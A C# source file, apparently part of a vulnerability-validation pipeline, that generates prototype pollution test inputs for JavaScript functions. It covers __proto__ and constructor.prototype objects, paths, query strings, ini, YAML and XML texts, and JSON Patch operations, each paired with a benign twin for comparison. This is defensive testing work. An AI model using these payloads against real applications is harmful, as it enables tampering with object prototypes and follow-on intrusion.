using System.Globalization;
using CodexSecurity.Analysis.Results;
using CodexSecurity.Pipeline.Validation.Judging;
using CodexSecurity.Pipeline.Validation.Planning;
using CodexSecurity.Pipeline.Validation.Running;

namespace CodexSecurity.Pipeline.Validation.Library.Payloads;

/// <summary>
/// Prototype pollution: objects with reaching keys to merge, key paths in the known notations to set, key-value text to parse. Every
/// payload writes a property of its own name, so that one process can try many.
/// </summary>
public sealed class PollutionPayloads : IPayloadKit
{
    /// <summary>The property that a payload writes: its tag follows.</summary>
    public const string Key = "csx" + Nonces.AttackMark;

    /// <inheritdoc />
    public AttackClass Class => AttackClass.PrototypePollution;

    /// <inheritdoc />
    public bool IsCheap => true;

    /// <inheritdoc />
    public IReadOnlyList<string> Verbs { get; } = ["set", "merge", "extend", "assign", "mixin", "default", "put", "deep", "clone", "copy", "path", "parse", "load", "update", "add", "expand", "flat", "apply", "patch", "config", "option"];

    /// <inheritdoc />
    public OracleSpec Oracle => OracleSpec.Of("pollution");

    /// <inheritdoc />
    public IReadOnlyList<PayloadCase> Cases(ValidationInput input, CallPlan plan, bool wide, string series)
    {
        var set = new CaseSet(plan, series);
        foreach (var source in input.Candidate.Inputs.Take(3))
        {
            foreach (var (name, make) in Values(wide)) set.AtInput(name, source, make);
        }

        set.AtInputs("keys of their own", input.Candidate.Inputs);
        // What an example gives as a path is one, whichever input the flow was seen from.
        foreach (var place in ExamplePaths.Of(plan))
        {
            foreach (var (name, make) in Paths(false)) set.At(name + " for the path of an example", place, make);
        }

        // The value to write often is another argument than the key: the usual orders of arguments.
        foreach (var (name, make) in Paths(wide))
        {
            set.Call("set " + name, k => [JsValue.Object(), make(k), JsValue.String(k)]);
            set.Call("set " + name + ", path first", k => [make(k), JsValue.String(k), JsValue.Object()]);
            if (!wide) continue;
            set.Call("set " + name + ", object second", k => [make(k), JsValue.Object(), JsValue.String(k)]);
            set.Call("set " + name + ", value second", k => [JsValue.Object(), JsValue.String(k), make(k)]);
            set.Call("set " + name + ", value first", k => [JsValue.String(k), make(k), JsValue.Object()]);
            set.Call("set " + name + ", two arguments", k => [make(k), JsValue.String(k)]);
        }

        set.Call("key, name and value", k => [JsValue.Object(), JsValue.String("__proto__"), JsValue.String(k), JsValue.String(k)]);
        set.Call("name and value", k => [JsValue.String("__proto__"), JsValue.String(k), JsValue.String(k)]);
        set.Call("key and object", k => [JsValue.Object(), JsValue.String("__proto__"), JsValue.Object(k, JsValue.String(k))]);
        foreach (var (name, make) in Objects(wide))
        {
            set.Call("merge " + name, k => [JsValue.Object(), make(k)]);
            set.Call("merge " + name + ", source first", k => [make(k), JsValue.Object()]);
            set.Call(name + " alone", k => [make(k)]);
            set.Call("deep merge " + name, k => [JsValue.True, JsValue.Object(), make(k)]);
            set.Call("merge into the third, " + name, k => [JsValue.Object(), JsValue.Object(), make(k)]);
            set.Call("merge a list, " + name, k => [JsValue.Array(JsValue.Object(), make(k))]);
            if (!wide) continue;
            set.Call("merge after an option, " + name, k => [JsValue.Object(), JsValue.Object("a", JsValue.Object()), make(k), JsValue.Function]);
            set.Call("merge with a list, " + name, k => [JsValue.Object(), JsValue.Array(make(k))]);
            set.Call("merge with a number, " + name, k => [JsValue.Number("1"), JsValue.Object(), make(k)]);
            set.Call("nested, " + name, k => [JsValue.Object("a", JsValue.Object()), JsValue.Object("a", make(k))]);
            set.Call("as option, " + name, k => [JsValue.String("benign"), make(k)]);
        }

        foreach (var (name, make) in Texts(wide))
        {
            set.Call("parse " + name, k => [make(k)]);
            if (wide) set.Call("parse into an object, " + name, k => [make(k), JsValue.Object()]);
        }

        if (wide)
        {
            set.Call("patch, list of keys", k => [JsValue.Object(), JsValue.Json(With("""[{"op":"add","path":["__proto__","{{k}}"],"value":"{{k}}"},{"op":"replace","path":["constructor","prototype","{{k}}"],"value":"{{k}}"}]""", k))]);
            set.Call("patch, pointer", k => [JsValue.Object(), JsValue.Json(With("""[{"op":"add","path":"/__proto__/{{k}}","value":"{{k}}"}]""", k))]);
            set.Call("patch, pointer by constructor", k => [JsValue.Object(), JsValue.Json(With("""[{"op":"add","path":"/constructor/prototype/{{k}}","value":"{{k}}"}]""", k))]);
            set.Call("pairs", k => [JsValue.Json(With("""[["__proto__.{{k}}","{{k}}"],["__proto__",{"{{k}}":"{{k}}"}]]""", k))]);
        }

        return set.Cases;
    }

    private static string With(string text, string key) => text.Replace("{{k}}", key, StringComparison.Ordinal);

    private static IEnumerable<(string Name, Func<string, JsValue> Make)> Values(bool wide) => [.. Objects(wide), .. Paths(wide), .. Texts(wide)];

    private static IEnumerable<(string Name, Func<string, JsValue> Make)> Objects(bool wide)
    {
        yield return ("__proto__ object", k => JsValue.Json(With("""{"__proto__":{"{{k}}":"{{k}}"}}""", k)));
        yield return ("constructor.prototype object", k => JsValue.Json(With("""{"constructor":{"prototype":{"{{k}}":"{{k}}"}}}""", k)));
        if (!wide) yield break;
        yield return ("flat dotted key", k => JsValue.Json(With("""{"__proto__.{{k}}":"{{k}}"}""", k)));
        yield return ("flat dotted constructor key", k => JsValue.Json(With("""{"constructor.prototype.{{k}}":"{{k}}"}""", k)));
        yield return ("flat slashed key", k => JsValue.Json(With("""{"__proto__/{{k}}":"{{k}}"}""", k)));
        yield return ("flat bracketed key", k => JsValue.Json(With("""{"__proto__[{{k}}]":"{{k}}"}""", k)));
        yield return ("flat nested brackets", k => JsValue.Json(With("""{"a[__proto__][__proto__][{{k}}]":"{{k}}","[__proto__].{{k}}":"{{k}}"}""", k)));
        yield return ("array prototype", k => JsValue.Json(With("""{"a":[],"a.__proto__.__proto__.{{k}}":"{{k}}"}""", k)));
        yield return ("deep __proto__ object", k => JsValue.Json(With("""{"a":{"__proto__":{"{{k}}":"{{k}}"}},"b":{"constructor":{"prototype":{"{{k}}":"{{k}}"}}}}""", k)));
        yield return ("__proto__ of an array", k => JsValue.Json(With("""[{"__proto__":{"{{k}}":"{{k}}"}}]""", k)));
    }

    private static IEnumerable<(string Name, Func<string, JsValue> Make)> Paths(bool wide)
    {
        yield return ("dotted path", k => JsValue.String($"__proto__.{k}"));
        yield return ("list of keys", k => JsValue.Array(JsValue.String("__proto__"), JsValue.String(k)));
        yield return ("dotted constructor path", k => JsValue.String($"constructor.prototype.{k}"));
        yield return ("list of constructor keys", k => JsValue.Array(JsValue.String("constructor"), JsValue.String("prototype"), JsValue.String(k)));
        yield return ("list with a list as key", k => JsValue.Array(JsValue.Array(JsValue.String("__proto__")), JsValue.String(k)));
        yield return ("pointer", k => JsValue.String($"/__proto__/{k}"));
        yield return ("pointer by constructor", k => JsValue.String($"/constructor/prototype/{k}"));
        if (!wide) yield break;
        yield return ("list with lists as constructor keys", k => JsValue.Array(JsValue.Array(JsValue.String("constructor")), JsValue.Array(JsValue.String("prototype")), JsValue.String(k)));
        yield return ("slashed path", k => JsValue.String($"__proto__/{k}"));
        yield return ("coloned path", k => JsValue.String($"__proto__:{k}"));
        yield return ("bracketed path", k => JsValue.String($"__proto__[{k}]"));
        yield return ("quoted brackets", k => JsValue.String($"['__proto__']['{k}']"));
        yield return ("double quoted brackets", k => JsValue.String($"[\"__proto__\"].{k}"));
        yield return ("brackets", k => JsValue.String($"[__proto__].{k}"));
        yield return ("path below a property", k => JsValue.String($"a.__proto__.{k}"));
        yield return ("path below two levels", k => JsValue.String($"a.constructor.prototype.{k}"));
        yield return ("path through an array", k => JsValue.String($"a[0].__proto__.__proto__.{k}"));
        yield return ("underscored path", k => JsValue.String($"__proto__-{k}"));
        yield return ("list of one dotted path", k => JsValue.Array(JsValue.String($"__proto__.{k}")));
        yield return ("pointer with a list", k => JsValue.Array(JsValue.String(""), JsValue.Array(JsValue.String("__proto__")), JsValue.String(k)));
    }

    private static IEnumerable<(string Name, Func<string, JsValue> Make)> Texts(bool wide)
    {
        yield return ("ini text", k => JsValue.String($"[__proto__]\n{k}={k}\n"));
        yield return ("query string", k => JsValue.String($"__proto__[{k}]={k}"));
        yield return ("JSON text", k => JsValue.String(With("""{"__proto__":{"{{k}}":"{{k}}"}}""", k)));
        yield return ("options", k => JsValue.Array(JsValue.String($"--__proto__.{k}"), JsValue.String(k)));
        yield return ("ini file", k => JsValue.String($"/work/run/ini-{k}.ini"));
        yield return ("JSON file", k => JsValue.String($"/work/run/json-{k}.json"));
        if (!wide) yield break;
        yield return ("dotted assignment", k => JsValue.String($"__proto__.{k}={k}"));
        yield return ("dotted assignment, colon", k => JsValue.String($"__proto__.{k}: {k}\n"));
        yield return ("query string, constructor", k => JsValue.String($"constructor[prototype][{k}]={k}"));
        yield return ("query string, question mark", k => JsValue.String($"?__proto__[{k}]={k}&__proto__.{k}={k}"));
        yield return ("options, constructor", k => JsValue.Array(JsValue.String($"--constructor.prototype.{k}={k}")));
        yield return ("options, through a function", k => JsValue.Array(JsValue.String($"--_.concat.constructor.prototype.{k}"), JsValue.String(k)));
        yield return ("options as text", k => JsValue.String($"--foo.__proto__.{k} {k}"));
        yield return ("JSON text, constructor", k => JsValue.String(With("""{"constructor":{"prototype":{"{{k}}":"{{k}}"}}}""", k)));
        yield return ("ini text, dotted section", k => JsValue.String($"[a.__proto__.__proto__]\n{k}={k}\n[constructor.prototype]\n{k}={k}\n"));
        yield return ("YAML text", k => JsValue.String($"__proto__:\n  {k}: {k}\n"));
        yield return ("XML text", k => JsValue.String($"<__proto__><{k}>{k}</{k}></__proto__>"));
    }

    /// <inheritdoc />
    public ProofJob Equip(ProofJob job, IReadOnlyList<string> tags)
    {
        // Parsers often take a file's name: the input names the files that are used.
        string input = job.Files.First(f => f.Path == "poc/input.json").Content;
        var files = new List<ProofFile>();
        foreach (string k in tags.Select(t => Key + t))
        {
            if (input.Contains($"/work/run/ini-{k}.ini", StringComparison.Ordinal)) files.Add(new ProofFile($"run/ini-{k}.ini", $"[__proto__]\n{k}={k}\n[a]\nb=c\n"));
            if (input.Contains($"/work/run/json-{k}.json", StringComparison.Ordinal)) files.Add(new ProofFile($"run/json-{k}.json", With("""{"__proto__":{"{{k}}":"{{k}}"},"constructor":{"prototype":{"{{k}}":"{{k}}"}}}""", k)));
        }

        // The harmless twins of these files.
        files.AddRange([new ProofFile("run/benign.ini", "[ordinary]\na=b\n"), new ProofFile("run/benign.json", """{"ordinary":{"a":"b"}}""")]);
        return job with { Files = [.. job.Files, .. files] };
    }

    /// <inheritdoc />
    public IReadOnlyList<string> Fired(ProofRun run, OracleReading reading) => reading.Tags;

    /// <inheritdoc />
    public bool Handles(ValidationInput input) => input.Class == Class;

    /// <inheritdoc />
    public HarnessInput Tune(HarnessInput input) => input with { Wait = input.Cases.Count > 1 ? 15 : 500, Drain = 400, Timeout = 500 };

    // The harmless counterpart has the same form; only the reaching keys are ordinary ones.
    private sealed class CaseSet(CallPlan plan, string series)
    {
        private readonly HashSet<string> _known = new(StringComparer.Ordinal);
        public List<PayloadCase> Cases { get; } = [];

        public JsValue At(string name, TaintedInput place, Func<string, JsValue> make)
        {
            string tag = NextTag();
            var value = make(Key + tag);
            if (Placer.Place(plan, place, value) is { } call && Placer.Place(plan, place, Harmless(value)) is { } benign) Add(tag, name, call, benign);
            return value;
        }

        public void AtInput(string name, TaintedInput source, Func<string, JsValue> make)
        {
            // What is below the attacker's own object was reached by keys of his choice: the whole object is his.
            var whole = source with { AccessPath = [.. source.AccessPath.TakeWhile(p => p is not ("{key}" or "[*]"))] };
            var value = At(name + " at the input", whole, make);
            if (value is not { Kind: "json", Text: ['{', ..] } || Beside(Placer.ValueAt(plan, whole)) is not { Length: > 0 } others) return;
            string second = NextTag();
            var joined = make(Key + second);
            joined = joined with { Text = joined.Text![..^1] + "," + others + "}" };
            if (Placer.Place(plan, whole, joined) is { } fuller && Placer.Place(plan, whole, Harmless(joined)) is { } harmless) Add(second, name + " beside what the call needs", fuller, harmless);
        }

        // The keys may come from fields of their own: the first leads to the prototype, the others name what is written there.
        public void AtInputs(string name, IReadOnlyList<TaintedInput> all)
        {
            // Those of nested objects, which the same function gets in turn, have no place of their own; an object that others are fields of is what is written.
            var inputs = all.Where(i => !i.AccessPath.Any(p => p is "{key}" or "[*]") && !all.Any(o => o.Root == i.Root && o.AccessPath.Count > i.AccessPath.Count && o.AccessPath.Take(i.AccessPath.Count).SequenceEqual(i.AccessPath))).ToList();
            if (inputs.Count < 2) return;
            string tag = NextTag();
            if (Placed("__proto__") is { } call && Placed("ordinary") is { } benign) Add(tag, name, call, benign);

            PlacedCall? Placed(string first)
            {
                var made = Placer.Place(plan, inputs[0], JsValue.String(first));
                foreach (var other in inputs.Skip(1)) made = made is null ? null : Placer.Place(plan with { Args = made.Args, Access = made.Access }, other, JsValue.String(Key + tag));
                return made;
            }
        }

        // Properties without which the call would be refused before it reads the others, as JSON members.
        private static string Beside(JsValue? benign) => benign is not { Kind: "object", Properties: { } own } ? "" : string.Join(',', own
            .Where(p => p.Value.Kind is "string" or "number" or "boolean")
            .Select(p => System.Text.Json.JsonSerializer.Serialize(p.Key) + ":" + (p.Value.Kind == "string" ? System.Text.Json.JsonSerializer.Serialize(p.Value.Text) : p.Value.Text)));

        public void Call(string name, Func<string, IReadOnlyList<JsValue>> make)
        {
            string tag = NextTag();
            var args = make(Key + tag);
            // Arguments that the plan knows to be functions or more than these stay.
            var all = args.Concat(plan.Args.Skip(args.Count)).ToList();
            for (int i = 0; i < plan.Args.Count && i < args.Count; i++) if (plan.Args[i].Kind == "function") all[i] = plan.Args[i];
            Add(tag, name, new PlacedCall(all, plan.Access), new PlacedCall([.. all.Select(Harmless)], plan.Access));
        }

        private string NextTag() => series + (Cases.Count + 1).ToString(CultureInfo.InvariantCulture);

        private void Add(string tag, string name, PlacedCall attack, PlacedCall benign)
        {
            string form = System.Text.Json.JsonSerializer.Serialize(attack.Args).Replace(Key + tag, Key, StringComparison.Ordinal);
            if (_known.Add(form + System.Text.Json.JsonSerializer.Serialize(attack.Access))) Cases.Add(new PayloadCase(tag, name, attack, benign));
        }

        private static JsValue Harmless(JsValue value) => value with
        {
            Text = value.Text is { } file && file.StartsWith("/work/run/", StringComparison.Ordinal) && file.Contains(Key, StringComparison.Ordinal) ? "/work/run/benign" + file[file.LastIndexOf('.')..] : value.Text?.Replace("__proto__", "ordinary", StringComparison.Ordinal).Replace("constructor", "outer", StringComparison.Ordinal).Replace("prototype", "inner", StringComparison.Ordinal),
            Properties = value.Properties?.Select(p => new JsProperty(p.Key is "__proto__" ? "ordinary" : p.Key, Harmless(p.Value))).ToList(),
            Items = value.Items?.Select(Harmless).ToList(),
        };
    }
}
